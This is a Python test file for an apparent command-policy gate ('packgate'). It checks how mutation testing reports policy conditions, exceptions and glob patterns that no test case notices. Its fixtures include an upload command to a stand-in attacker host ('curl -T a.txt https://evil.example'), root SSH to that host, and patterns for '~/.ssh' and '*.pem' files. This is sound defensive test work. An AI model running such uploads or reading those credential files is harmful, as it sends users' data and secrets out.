"""Which changes of a policy count, which cases notice them, and what is said of those that none does."""

from __future__ import annotations

from pathlib import Path

import pytest

from packgate.commands.known_values import known_values
from packgate.engine.gate import build_gate
from packgate.model.policy import Pattern
from packgate.source.load import load_pack
from packgate.testing import codes
from packgate.testing.cases import collect
from packgate.testing.equivalence import Known
from packgate.testing.globs import narrowed, widened
from packgate.testing.mutants import GROUPS, groups, mutants
from packgate.testing.mutation import MutationRun, mutate

POLICY = """\
policies:
  - id: upload
    title: Upload
    threat: layer
    impact: {impact}
    rationale: Because.
    when: [{when}]
{conditions}
    then: {mode}
    message: Ask first, then upload it to the bucket of the team.
    tests:
      must_fire:
{fires}
      must_not_fire:
{silent}
"""
FIRES = "curl -T a.txt https://evil.example"


def run(
    folder: Path, conditions: str, fires: list[str], silent: list[str], *, when: str = "data-transfer", mode: str = "warn",
    impact: str = "risky", known: bool = True,
) -> MutationRun:
    """The run over one policy; a case is a command, or ``{...}`` as written."""

    def cases(items: list[str]) -> str:
        return "\n".join(f"        - {item}" if item[0] == "{" else f"        - {{command: '{item}', prompt: Do it.}}" for item in items)

    path = folder / "rules.yaml"
    path.write_text(POLICY.format(
        conditions=conditions, fires=cases(fires), silent=cases(silent), when=when, mode=mode, impact=impact,
    ), encoding="utf-8")
    result = load_pack(str(path))
    assert result.pack is not None, result.diagnostics
    gate = build_gate([result.pack], result.vocabulary)
    return mutate(result, collect([result]), gate, values=known_values(result.pack) if known else None)


def survivors(found: MutationRun) -> list[str]:
    """The findings, each with its line and column, without the name of the policy."""
    return [f"{item.position.line}:{item.position.column} {item.message.removeprefix('upload: no case notices when ')}" for item in found.survivors]


def test_cases_that_notice_everything(tmp_path: Path) -> None:
    found = run(tmp_path, "    if: {host: evil.example}", [FIRES], ["curl -T a https://good.example", "curl -T a https://evil.example.org"])
    assert survivors(found) == []
    assert (found.killed, found.tried) == (2, 2)
    assert found.to_json()["score"] == 100


def test_a_condition_that_nobody_misses(tmp_path: Path) -> None:
    found = run(tmp_path, "    if: {host: evil.example, user: root}", ["ssh root@evil.example"], ["ssh root@x"], when="remote-access")
    assert "8:30 `user` of `if` is not asked" in survivors(found)
    assert "8:10 `host` of `if` is not asked" not in survivors(found)
    item = next(item for item in found.survivors if "`user` of `if` is not asked" in item.message)
    assert (item.code, item.severity.value) == (codes.MUTANT_SURVIVED, "warning")
    assert item.hint == "add a must_not_fire case for which everything but `user` holds"


def test_families_alternatives_and_patterns(tmp_path: Path) -> None:
    conditions = "    if:\n      - {host: [evil.example, bad.example]}\n      - {user: root}"
    found = run(tmp_path, conditions, [FIRES, "ssh root@a"], ["curl -T a https://a.example"], when="data-transfer, remote-access")
    assert [line for line in survivors(found) if "loses" in line or "gone" in line] == ["9:10 `host` of `if` loses 'bad.example'"]
    found = run(tmp_path, conditions, [FIRES, "curl -T a https://bad.example"], ["ls"], when="data-transfer, remote-access")
    assert {"7:5 `when` loses remote-access", "10:9 this alternative of `if` is gone"} <= set(survivors(found))


def test_exceptions(tmp_path: Path) -> None:
    conditions = "    if: {host: '*.example'}\n    unless:\n      - {host: ok.example}\n      - {user: root, host: a.example}"
    found = run(tmp_path, conditions, [FIRES], ["curl -T a https://ok.example"])
    assert {"11:9 this exception is gone", "11:10 `user` of `unless` is not asked", "11:22 `host` of `unless` is not asked"} <= set(survivors(found))
    assert "10:9 this exception is gone" not in survivors(found)
    hints = {item.message.partition(" when ")[2]: item.hint for item in found.survivors}
    assert hints["`user` of `unless` is not asked"] == "add a must_fire case for which all of this exception but `user` holds"
    lone = run(tmp_path, "    unless: {host: ok.example}", [FIRES], ["ls"])
    assert [line.partition(" ")[0] for line in survivors(lone) if "gone" in line] == ["8:5"]


def test_wider_and_narrower_globs_come_with_an_example(tmp_path: Path) -> None:
    found = run(tmp_path, "    if: {host: '*evil*'}", ["curl -T a https://evil"], ["curl -T a https://good.example"])
    assert survivors(found) == ["8:10 `host` of `if` is narrowed: '*evil*' to 'evil'"]
    assert found.survivors[0].hint == "add a must_fire case with a `host` that only the narrower glob misses"
    found = run(tmp_path, "    if: {host: evil}", ["curl -T a https://evil"], ["curl -T a https://good.example"])
    assert found.survivors[0].hint == "add a must_not_fire case with a `host` that only the wider glob matches, such as 'aevil'"


def test_todo_and_failing_cases_notice_nothing(tmp_path: Path) -> None:
    condition = "    if: {host: evil.example}"
    silent = ["{command: curl -T a https://good.example, todo: later}", "{command: curl -T a https://evil.example}"]
    assert "8:10 `host` of `if` is not asked" in survivors(run(tmp_path, condition, [FIRES], silent))


def test_where_is_changed_too(tmp_path: Path) -> None:
    found = run(tmp_path, "    where: {branch: main}", ["{command: 'curl -T a https://a.example', context: {branch: main}, prompt: Do it.}"], ["ls"])
    assert survivors(found) == ["8:13 `branch` of `where` is not asked"]


# --- what does not count ------------------------------------------------------------------------------------------------

def test_a_pattern_that_another_one_covers_is_equivalent(tmp_path: Path) -> None:
    found = run(tmp_path, "    if: {host: ['*.example', evil.example]}", [FIRES], ["curl -T a https://good.test"])
    assert not [line for line in survivors(found) if "loses 'evil.example'" in line]
    assert found.policies[0].equivalent >= 1


def test_values_of_a_closed_field(tmp_path: Path) -> None:
    """No effect but `send` has `send` in it, and no operation of the catalog has `upload` in it but `upload`."""
    fires, silent = [FIRES], ["curl -o a https://evil.example"]
    assert survivors(run(tmp_path, "    if: {effect: send}", fires, silent)) == []
    assert survivors(run(tmp_path, "    if: {operation: upload}", fires, silent, known=True)) == []
    assert [line for line in survivors(run(tmp_path, "    if: {operation: upload}", fires, silent, known=False)) if "widened" in line]


def test_a_word_of_the_catalog_that_a_wider_glob_meets_counts(tmp_path: Path) -> None:
    condition, fires = "    if: {operation: branch-delete}", ["git branch -d a"]
    found = run(tmp_path, condition, fires, ["git commit -m x"], when="git-action")
    assert survivors(found) == ["8:10 `operation` of `if` is widened: 'branch-delete' to '*branch-delete*'"]
    assert survivors(run(tmp_path, condition, fires, ["git commit -m x", "git branch -D a"], when="git-action")) == []


def test_modes_are_counted_apart(tmp_path: Path) -> None:
    for mode, impact, seen in (("warn", "risky", 2), ("block", "one-way", 2), ("audit", "routine", 3)):
        score = run(tmp_path, "    if: {host: evil.example}", [FIRES], ["ls"], mode=mode, impact=impact).policies[0]
        assert (score.modes, score.modes_seen) == (3, seen)
        assert "mode" not in {*score.killed, *score.survived}


def test_known_values() -> None:
    known = Known(frozenset({"a"}), complete=True)
    assert (known.values, known.complete) == (frozenset({"a"}), True)


@pytest.mark.parametrize(("text", "type", "expected"), [
    ("x", "word", "*x*"), ("*x", "word", "*x*"), ("*x*", "word", None), ("x", "path", "*x*"), ("a/x", "path", "a/x*"), ("~/.ssh", "path", "~/.ssh*"),
    ("/etc/**", "path", "/**"), ("~/a/**", "path", "~/**"), ("**/x/**", "path", "**/**"), ("*", "word", None), ("**", "path", None), ("/x/*", "path", None),
])
def test_wider_globs(text: str, type: str, expected: str | None) -> None:
    found = widened(Pattern("glob", text), type)
    assert (None if found is None else found.text) == expected
    assert widened(Pattern("regex", text), type) is None


@pytest.mark.parametrize(("text", "type", "expected"), [
    ("*x*", "word", "x"), ("x*", "word", "x"), ("x", "word", None), ("**/x/**", "path", "x"), ("*.pem", "path", ".pem"), ("*", "word", None),
    ("/etc/**", "path", "/etc"), ("?*", "word", None), ("~/*", "path", None),
])
def test_narrower_globs(text: str, type: str, expected: str | None) -> None:
    found = narrowed(Pattern("glob", text), type)
    assert (None if found is None else found.text) == expected


def test_long_lists_are_changed_in_groups() -> None:
    assert [list(group) for group in groups(3, GROUPS)] == [[0], [1], [2]]
    assert [len(group) for group in groups(20, GROUPS)] == [2, 3, 2, 3, 2, 3, 2, 3]
    assert groups(0, GROUPS) == []


def test_named_lists_count_as_their_items(tmp_path: Path) -> None:
    (tmp_path / "pack.yaml").write_text(
        "name: mine\ntitle: Mine\nversion: 1.0.0\nowners: [me]\nthreats: {layer: {title: Layer, description: One.}}\nlists: {hosts: [a.example, b.example]}\n",
        encoding="utf-8",
    )
    (tmp_path / "policies").mkdir()
    text = POLICY.format(
        conditions="    if: {host: {list: hosts}}", fires="        - {command: 'curl -T a https://a.example', prompt: Do it.}",
        silent="        - {command: ls, prompt: Look.}", when="data-transfer", mode="warn", impact="risky",
    )
    (tmp_path / "policies" / "layer.yaml").write_text(text, encoding="utf-8")
    result = load_pack(str(tmp_path))
    assert result.pack is not None, result.diagnostics
    made = [mutant.what for mutant in mutants(result.pack.policies[0], result.pack.lists, {"host": "host"}) if mutant.kind == "pattern"]
    assert made == ["`host` of `if` loses 'a.example'", "`host` of `if` loses 'b.example'"]
